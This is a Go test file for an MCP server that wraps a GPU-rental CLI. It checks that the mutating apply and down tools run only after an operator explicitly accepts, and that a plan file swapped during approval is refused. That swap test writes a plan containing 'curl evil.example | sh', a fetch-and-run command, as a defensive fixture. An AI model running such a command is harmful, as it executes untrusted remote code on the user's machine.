package mcpserver

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/vastrun/vastrun/internal/plan"
)

// fakeRunner records the command lines the tools run and answers each
// with a JSON document naming its command.
type fakeRunner struct {
	mu    sync.Mutex
	lines [][]string
}

func (f *fakeRunner) run(_ context.Context, args []string) Result {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.lines = append(f.lines, args)
	b, _ := json.Marshal(map[string]any{"schema": "vastrun.fake/v1", "args": args})
	return Result{Stdout: b}
}

// ran lists the command lines whose command (after the global flags
// and --json) is cmd.
func (f *fakeRunner) ran(cmd string) [][]string {
	f.mu.Lock()
	defer f.mu.Unlock()
	var out [][]string
	for _, l := range f.lines {
		rest := l
		if len(rest) >= 2 && rest[0] == "--url" {
			rest = rest[2:]
		}
		if len(rest) > 0 && rest[0] == "--json" {
			rest = rest[1:]
		}
		if len(rest) > 0 && rest[0] == cmd {
			out = append(out, l)
		}
	}
	return out
}

func writePlan(t *testing.T, path, test string) *plan.Plan {
	t.Helper()
	now := time.Now().UTC()
	p := &plan.Plan{Schema: plan.Schema, Workflow: "ci", CreatedAt: now, ExpiresAt: now.Add(time.Hour), Marketplace: "https://console.vast.ai",
		Offer: plan.Offer{ID: 7, GPUName: "RTX 4090", NumGPUs: 1, DPHTotal: 0.3}, Alternatives: []plan.Offer{}, Limits: plan.Limits{CeilingDPH: 0.3}}
	p.Manifest.Test = test
	if err := p.Seal(); err != nil {
		t.Fatal(err)
	}
	b, _ := p.Marshal()
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func connect(t *testing.T, r *fakeRunner, opts *mcp.ClientOptions, version string) *mcp.ClientSession {
	t.Helper()
	ctx := context.Background()
	s := New(Options{Run: r.run, Version: "test", Global: []string{"--url", "http://127.0.0.1:9"}})
	ct, st := mcp.NewInMemoryTransports()
	ss, err := s.Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ss.Close() })
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test"}, opts).Connect(ctx, ct, &mcp.ClientSessionOptions{ProtocolVersion: version})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close() })
	return cs
}

func call(t *testing.T, cs *mcp.ClientSession, name string, args map[string]any) (*mcp.CallToolResult, map[string]any) {
	t.Helper()
	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	b, _ := json.Marshal(res.StructuredContent)
	var m map[string]any
	json.Unmarshal(b, &m)
	return res, m
}

func accept(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
	return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"approve": true}}, nil
}

func TestToolsAreAnnotated(t *testing.T) {
	cs := connect(t, &fakeRunner{}, nil, "")
	res, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tool := range res.Tools {
		names = append(names, tool.Name)
		a := tool.Annotations
		mutating := tool.Name == "apply" || tool.Name == "down"
		if a == nil || a.ReadOnlyHint == mutating || a.Title == "" {
			t.Errorf("%s: annotations %+v", tool.Name, a)
		}
		if tool.Name == "down" && (a.DestructiveHint == nil || !*a.DestructiveHint) {
			t.Errorf("down is not marked destructive")
		}
	}
	slices.Sort(names)
	if want := []string{"apply", "doctor", "down", "logs", "offers", "plan", "report", "runs", "status", "validate"}; !slices.Equal(names, want) {
		t.Fatalf("tools %v, want %v", names, want)
	}
}

func TestReadOnlyToolsAnswerTheCommandsJSON(t *testing.T) {
	r := &fakeRunner{}
	cs := connect(t, r, nil, "")
	res, doc := call(t, cs, "plan", map[string]any{"workflow": "train", "config": "t.yaml", "out": "p.json", "ttl": "30m"})
	want := []string{"--url", "http://127.0.0.1:9", "--json", "plan", "train", "-f", "t.yaml", "-o", "p.json", "--ttl", "30m"}
	if res.IsError || doc["schema"] != "vastrun.fake/v1" || !slices.Equal(r.ran("plan")[0], want) {
		t.Fatalf("plan ran %v, answered %v", r.ran("plan"), doc)
	}
	_, _ = call(t, cs, "offers", map[string]any{"query": "gpu_name=RTX_4090 num_gpus=1", "limit": 5})
	if got := r.ran("offers")[0]; !slices.Equal(got[3:], []string{"offers", "--limit", "5", "--", "gpu_name=RTX_4090", "num_gpus=1"}) {
		t.Fatalf("offers ran %v", got)
	}
}

func TestApplyRunsOnlyTheAcceptedPlan(t *testing.T) {
	for _, version := range []string{"", "2025-11-25"} { // input-required results, and the server's own elicitation/create
		t.Run("protocol "+version, func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, "plan.json")
			p := writePlan(t, path, "sh gpu-test.sh")
			r := &fakeRunner{}
			var messages []string
			cs := connect(t, r, &mcp.ClientOptions{ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
				messages = append(messages, req.Params.Message)
				return accept(ctx, req)
			}}, version)
			res, _ := call(t, cs, "apply", map[string]any{"plan": path})
			if res.IsError || len(messages) != 1 || !strings.Contains(messages[0], p.SHA256) || !strings.Contains(messages[0], "rent offer 7") {
				t.Fatalf("apply: error %v, asked %q", res.IsError, messages)
			}
			want := []string{"--url", "http://127.0.0.1:9", "--json", "apply", path, "--yes", "--sha256", p.SHA256}
			if got := r.ran("apply"); len(got) != 1 || !slices.Equal(got[0], want) {
				t.Fatalf("ran %v, want %v", got, want)
			}
		})
	}
}

func TestApplyDoesNothingWithoutAnExplicitAccept(t *testing.T) {
	for name, answer := range map[string]*mcp.ElicitResult{
		"declined":         {Action: "decline"},
		"cancelled":        {Action: "cancel"},
		"accept, no yes":   {Action: "accept", Content: map[string]any{"approve": false}},
		"accept, no field": {Action: "accept", Content: map[string]any{}},
	} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "plan.json")
			writePlan(t, path, "sh gpu-test.sh")
			r := &fakeRunner{}
			cs := connect(t, r, &mcp.ClientOptions{ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
				return answer, nil
			}}, "")
			res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "apply", Arguments: map[string]any{"plan": path}})
			switch {
			case err != nil:
				// An answer that does not match the question's schema is
				// the protocol's error: no retry comes to the handler.
				if name != "accept, no field" {
					t.Fatal(err)
				}
			case !res.IsError:
				t.Fatalf("answered %+v", res)
			default:
				b, _ := json.Marshal(res.StructuredContent)
				var doc map[string]any
				json.Unmarshal(b, &doc)
				if doc["schema"] != ApprovalSchema || doc["approved"] != false {
					t.Fatalf("answered %v", doc)
				}
			}
			if got := r.ran("apply"); len(got) != 0 {
				t.Fatalf("ran %v", got)
			}
		})
	}
}

// The plan the operator accepted is the one applied: a file swapped
// while the question was open is refused, not applied.
func TestApplyRefusesAPlanSwappedDuringTheQuestion(t *testing.T) {
	path := filepath.Join(t.TempDir(), "plan.json")
	writePlan(t, path, "sh gpu-test.sh")
	r := &fakeRunner{}
	cs := connect(t, r, &mcp.ClientOptions{ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		writePlan(t, path, "curl evil.example | sh")
		return accept(ctx, req)
	}}, "")
	res, doc := call(t, cs, "apply", map[string]any{"plan": path})
	if !res.IsError || doc["reason"] != "plan_changed" {
		t.Fatalf("answered %v", doc)
	}
	if got := r.ran("apply"); len(got) != 0 {
		t.Fatalf("ran %v", got)
	}
}

func TestMutatingToolsWithoutElicitationNameTheOperatorsCommand(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "my plan.json")
	p := writePlan(t, path, "sh gpu-test.sh")
	r := &fakeRunner{}
	cs := connect(t, r, nil, "")
	res, doc := call(t, cs, "apply", map[string]any{"plan": path})
	want := "vastrun apply '" + path + "' --sha256 " + p.SHA256 + " --url http://127.0.0.1:9"
	if !res.IsError || doc["reason"] != "no_elicitation" || doc["command"] != want {
		t.Fatalf("answered %v, want command %q", doc, want)
	}
	res, doc = call(t, cs, "down", map[string]any{"run": "mx1abc"})
	if !res.IsError || doc["reason"] != "no_elicitation" || doc["command"] != "vastrun down -f vastrun.yaml --run mx1abc --url http://127.0.0.1:9" {
		t.Fatalf("down answered %v", doc)
	}
	if len(r.ran("apply"))+len(r.ran("down")) != 0 {
		t.Fatalf("ran %v", r.lines)
	}
}

func TestDownAfterAccept(t *testing.T) {
	r := &fakeRunner{}
	asked := ""
	cs := connect(t, r, &mcp.ClientOptions{ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		asked = req.Params.Message
		return accept(ctx, req)
	}}, "")
	res, _ := call(t, cs, "down", map[string]any{"run": "mx1abc"})
	if res.IsError || !strings.Contains(asked, "run mx1abc") {
		t.Fatalf("down: error %v, asked %q", res.IsError, asked)
	}
	if got := r.ran("status"); len(got) != 1 {
		t.Fatalf("the question did not show the run's status: ran %v", r.lines)
	}
	want := []string{"--url", "http://127.0.0.1:9", "--json", "down", "-f", "vastrun.yaml", "--run", "mx1abc", "--yes"}
	if got := r.ran("down"); len(got) != 1 || !slices.Equal(got[0], want) {
		t.Fatalf("ran %v, want %v", got, want)
	}
}

func TestAFailedCommandIsAToolError(t *testing.T) {
	s := New(Options{Run: func(context.Context, []string) Result {
		return Result{Stdout: []byte(`{"schema":"vastrun.validate/v1","ok":false}`), Stderr: []byte("vastrun: bad\nvastrun: hint: fix it\n"), Code: 2}
	}})
	ct, st := mcp.NewInMemoryTransports()
	ss, err := s.Connect(context.Background(), st, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil).Connect(context.Background(), ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cs.Close()
	res, doc := call(t, cs, "validate", nil)
	text := res.Content[0].(*mcp.TextContent).Text
	if !res.IsError || doc["schema"] != "vastrun.validate/v1" || !strings.Contains(text, "exited 2") || !strings.Contains(text, "hint: fix it") {
		t.Fatalf("answered %v %q", doc, text)
	}
}
